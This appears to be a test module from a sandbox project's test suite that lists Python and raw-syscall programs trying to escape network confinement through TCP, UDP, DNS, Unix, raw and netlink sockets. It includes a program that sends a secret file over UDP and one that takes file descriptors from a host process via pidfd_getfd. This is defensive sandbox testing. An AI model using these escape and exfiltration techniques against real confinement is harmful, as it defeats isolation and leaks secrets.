"""Every way out through a socket, and descriptors that lead out."""

import platform

from tests.sandbox.attacks.program import Attack

PROGRAMS = {
    "tcp": ("socket.create_connection(('127.0.0.1', @TCP@))", True),
    "tcp-raw-module": (
        "import _socket\ns = _socket.socket(2, 1)\ns.connect(('127.0.0.1', @TCP@))",
        True,
    ),
    "tcp-nonblocking": (
        "s = socket.socket()\ns.setblocking(False)\ns.connect_ex(('127.0.0.1', @TCP@))\n"
        "import time\ntime.sleep(0.1)",
        True,
    ),
    "tcp-fast-open": (
        "s = socket.socket()\ns.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', @TCP@))",
        False,
    ),
    "tcp-mapped-v6": (
        "s = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:127.0.0.1', @TCP@))",
        False,
    ),
    "http": (
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@TCP@/', timeout=0.2)",
        True,
    ),
    "asyncio": (
        "import asyncio\nasync def f():\n    await asyncio.open_connection('127.0.0.1', @TCP@)\n"
        "asyncio.run(f())",
        True,
    ),
    "udp": ("socket.socket(2, 2).sendto(b'x', ('127.0.0.1', @UDP@))", True),
    "udp-sendmsg": (
        "s = socket.socket(2, 2)\ns.sendmsg([open('@SECRET@', 'rb').read()], [], 0, "
        "('127.0.0.1', @UDP@))",
        True,
    ),
    "dns-query": (
        "q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1'\n"
        "socket.socket(2, 2).sendto(q, ('127.0.0.1', @UDP@))",
        True,
    ),
    "dns-resolver": (
        "if socket.getaddrinfo('localhost', 1):\n    print('@NOW@'[::-1])",
        True,
    ),
    "unix-abstract": ("socket.socket(1).connect('\\0@ABSTRACT@')", True),
    "unix-path": ("socket.socket(1).connect('@UNIX@')", True),
    "unix-relative": (
        "import os\nos.chdir(os.path.dirname('@UNIX@'))\nsocket.socket(1).connect('socket')",
        True,
    ),
    "raw-icmp": ("socket.socket(2, 3, 1)\nprint('@NOW@'[::-1])", False),
    "packet": ("socket.socket(17, 3, 768)\nprint('@NOW@'[::-1])", False),
    "netlink": (
        "s = socket.socket(16, 3, 0)\ns.bind((0, 0))\nprint('@NOW@'[::-1])",
        True,
    ),
    "vsock": ("socket.socket(40, 1).connect((2, 1))\nprint('@NOW@'[::-1])", False),
    "crypto-socket": (
        "s = socket.socket(38, 5, 0)\ns.bind(('hash', 'sha256'))\nprint('@NOW@'[::-1])",
        False,
    ),
    "listen": (
        "s = socket.create_server(('127.0.0.1', 0))\nprint('@NOW@'[::-1])",
        True,
    ),
    "socketpair": ("socket.socketpair()\nprint('@NOW@'[::-1])", True),
    "inherited-sockets": (
        r"""
for fd in range(1024):
    try:
        s = socket.socket(fileno=fd)
        if s.family == socket.AF_INET or s.listening:
            print("@NOW@"[::-1])
    except OSError:
        pass
    else:
        try:
            s.sendto(b"x", ("127.0.0.1", @UDP@))
        except OSError:
            pass
        s.detach()
""",
        False,
    ),
    "descriptor-from-host": (
        r"""
import ctypes, os
libc = ctypes.CDLL(None)
pid = os.pidfd_open(@HOST@)
for number in range(3, 64):
    fd = libc.syscall(438, pid, number, 0)
    if fd >= 0:
        try:
            print(os.pread(fd, 99, 0))
        except OSError:
            pass
""",
        True,
    ),
}

# The same without the module, for a process that holds ctypes but can load nothing.
RAW_HEAD = """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def unix(name):
    return struct.pack("=H", 1) + name.encode()
def inet(port):
    return struct.pack(">BBH4B8x", 2, 0, port, 127, 0, 0, 1)
"""

RAW = {
    "tcp": ("a = inet(@TCP@)\nlibc.connect(libc.socket(2, 1, 0), a, len(a))", True),
    "tcp-any-descriptor": (
        "a = inet(@TCP@)\nfor fd in range(256):\n    libc.connect(fd, a, len(a))",
        False,
    ),
    "tcp-multipath": ("a = inet(@TCP@)\nlibc.connect(libc.socket(2, 1, 262), a, len(a))", False),
    "udp": ("a = inet(@UDP@)\nlibc.sendto(libc.socket(2, 2, 0), b'x', 1, 0, a, len(a))", True),
    "udp-by-number": (
        "a = inet(@UDP@)\nfd = libc.syscall(41, 2, 2, 0)\nlibc.syscall(44, fd, b'x', 1, 0, a, 16)",
        platform.machine() == "x86_64",
    ),
    "unix-abstract": (
        "a = unix('\\0@ABSTRACT@')\nlibc.connect(libc.socket(1, 1, 0), a, len(a))",
        True,
    ),
    "unix-path": ("a = unix('@UNIX@')\nlibc.connect(libc.socket(1, 1, 0), a, len(a))", True),
    "unix-datagram-bind": (
        "a = unix('@CANARY@/a')\nlibc.bind(libc.socket(1, 2, 0), a, len(a))",
        True,
    ),
    "netlink": ("if libc.socket(16, 3, 0) >= 0:\n    print('@NOW@'[::-1])", True),
    "raw-icmp": ("if libc.socket(2, 3, 1) >= 0:\n    print('@NOW@'[::-1])", False),
    "socketpair": (
        "p = (ctypes.c_int * 2)()\nif libc.socketpair(1, 1, 0, p) == 0:\n    print('@NOW@'[::-1])",
        True,
    ),
    "resolver": (
        "libc.gethostbyname.restype = ctypes.c_void_p\n"
        "if libc.gethostbyname(b'localhost'):\n    print('@NOW@'[::-1])",
        True,
    ),
    "descriptor-passed": (
        "b = ctypes.create_string_buffer(99)\nfor fd in range(256):\n"
        "    if libc.recvmsg(fd, b, 0x40) >= 0:\n        print('@NOW@'[::-1])",
        False,
    ),
}

ATTACKS = [
    Attack(f"net-{name}", "import socket\n" + text, works_bare=bare)
    for name, (text, bare) in PROGRAMS.items()
] + [Attack(f"raw-{name}", RAW_HEAD + text, works_bare=bare) for name, (text, bare) in RAW.items()]
